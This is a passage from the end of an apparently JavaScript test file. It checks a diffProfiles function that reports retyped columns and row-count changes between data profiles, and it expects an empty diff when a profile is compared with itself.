      retyped: [{ name: 'id', from: 'BIGINT', to: 'VARCHAR' }],
      rowCount: { from: 200, to: 250, change: 50 },
    })
    expect(diffProfiles(v1, v1)).toEqual({ added: [], removed: [], retyped: [], rowCount: { from: 200, to: 200, change: 0 } })
  })
})
